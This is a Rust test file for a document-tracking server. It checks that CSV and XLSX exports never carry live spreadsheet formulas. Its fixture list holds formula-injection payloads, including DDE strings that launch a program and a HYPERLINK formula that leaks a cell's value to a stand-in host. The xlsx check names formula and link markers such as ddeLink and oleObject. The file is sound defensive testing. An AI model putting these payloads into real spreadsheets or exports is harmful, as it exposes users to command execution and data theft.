//! What a spreadsheet makes of our answers: names that begin as a formula does stay words, in every list.

use std::io::{Cursor, Read};

use crate::accounts::Person;
use crate::client::Client;
use crate::document::operations;
use crate::server::{Home, Server};

/// How a cell begins that a spreadsheet would reckon.
const EVIL: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://elsewhere.example/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "a\",=1+1,\"b",
    "<f>1+1</f><v>2</v>",
    "]]>&amp;<f>1</f>",
];

/// A unit, a document, a task, a requirement, a group and an inspection with each of these names.
fn lines() -> String {
    let mut lines = Vec::new();
    let mut line = |command: &str, effective: &str, data: serde_json::Value| {
        let line = serde_json::json!({"command": command, "effective": effective, "data": data});
        lines.push(line.to_string());
    };
    line(
        "unit.form",
        "2014-01-01",
        serde_json::json!({"unit": "inspectors", "name": "Ủy ban Kiểm tra", "kind": "party_body"}),
    );
    for (at, evil) in EVIL.iter().enumerate() {
        let (unit, document) = (format!("u{at}"), format!("d{at}"));
        line(
            "unit.form",
            "2014-01-01",
            serde_json::json!({"unit": unit, "name": evil, "kind": "other"}),
        );
        line(
            "group.define",
            "2014-01-02",
            serde_json::json!({"group": format!("g{at}"), "name": evil, "members": [unit]}),
        );
        line(
            "document.issue",
            "2024-01-02",
            serde_json::json!({"document": document, "type": "Chỉ thị", "issuer": unit, "subject": evil}),
        );
        line(
            "task.assign",
            "2024-01-03",
            serde_json::json!({"task": format!("t{at}"), "assignment": {"document": document, "title": evil, "leads": [{"unit": unit}], "due": {"rule": "fixed", "date": "2024-06-30"}}}),
        );
        line(
            "requirement.set",
            "2024-01-03",
            serde_json::json!({"requirement": format!("r{at}"), "rule": {"document": document, "kind": "periodic", "title": evil, "reporters": [{"unit": unit}], "cadence": "yearly", "window": {"rule": "calendar"}, "due": {"rule": "fixed", "date": "2024-07-20"}, "day_off": "keep"}}),
        );
        line(
            "period.open",
            "2024-01-04",
            serde_json::json!({"requirement": format!("r{at}"), "period": "2024"}),
        );
        line(
            "inspection.open",
            "2024-02-04",
            serde_json::json!({"inspection": format!("i{at}"), "plan": {"kind": "inspection", "by": "inspectors", "units": [unit], "documents": [document], "window": {"from": "2024-01-01", "to": "2024-12-31"}, "title": evil}}),
        );
        line(
            "task.progress",
            "2024-02-05",
            serde_json::json!({"obligation": format!("t{at}_{unit}"), "note": evil}),
        );
    }
    lines.join("\n")
}

#[test]
fn no_cell_is_a_formula_whatever_it_begins_with() {
    let committee = Person::new("committee", "inspector", None);
    let home = Home::with(&(lines() + "\n" + &committee.lines().join("\n")));
    let server = Server::start(&home.config());
    let client = Client::of(server.address(), &committee);
    let (mut sheets, mut words) = (0, 0);
    for operation in operations(&server) {
        let takes = |name: &str| operation.parameters.iter().any(|one| one.name == name);
        if operation.method != "GET" || !takes("format") {
            continue;
        }
        for query in [
            "",
            "unit=u0&",
            "document=d0&",
            "words=cmd&",
            "by=unit&",
            "by=document&",
        ] {
            let address = |form: &str| format!("{}?{query}format={form}", operation.path);
            let csv = client.get(&address("csv"));
            if csv.status != 200 {
                continue;
            }
            words += usize::from(csv.text().contains("cmd|"));
            csv_is_harmless(&address("csv"), &csv.body);
            let xlsx = client.get(&address("xlsx")).expect(200);
            assert!(xlsx.header("content-disposition").starts_with("attachment"));
            xlsx_is_harmless(&address("xlsx"), &xlsx.body);
            sheets += 1;
        }
    }
    assert!(
        sheets > 8 && words > 4,
        "{sheets} sheets, {words} of them with such names"
    );
}

fn csv_is_harmless(address: &str, bytes: &[u8]) {
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf");
    let bytes = bytes
        .unwrap_or_else(|| panic!("{address}: Excel takes it for another coding without a mark"));
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(false)
        .from_reader(bytes);
    for record in reader.records() {
        for cell in &record.unwrap() {
            let begins = cell.chars().next();
            let figure = cell.parse::<f64>().is_ok();
            let reckoned = matches!(begins, Some('=' | '+' | '-' | '@' | '\t' | '\r' | '＝'));
            assert!(figure || !reckoned, "{address}: {cell:?} would be reckoned");
        }
    }
}

fn xlsx_is_harmless(address: &str, bytes: &[u8]) {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut sheets = 0;
    for at in 0..archive.len() {
        let mut file = archive.by_index(at).unwrap();
        let name = file.name().unwrap().into_owned();
        let mut text = String::new();
        if file.read_to_string(&mut text).is_err() {
            continue;
        }
        for formula in [
            "<f>",
            "<f ",
            "<hyperlink",
            "externalLink",
            "<oleObject",
            "ddeLink",
        ] {
            assert!(
                !text.contains(formula),
                "{address}: {name} has {formula}: {text}"
            );
        }
        sheets += usize::from(name.starts_with("xl/worksheets/sheet"));
    }
    assert!(sheets >= 1, "{address}");
}
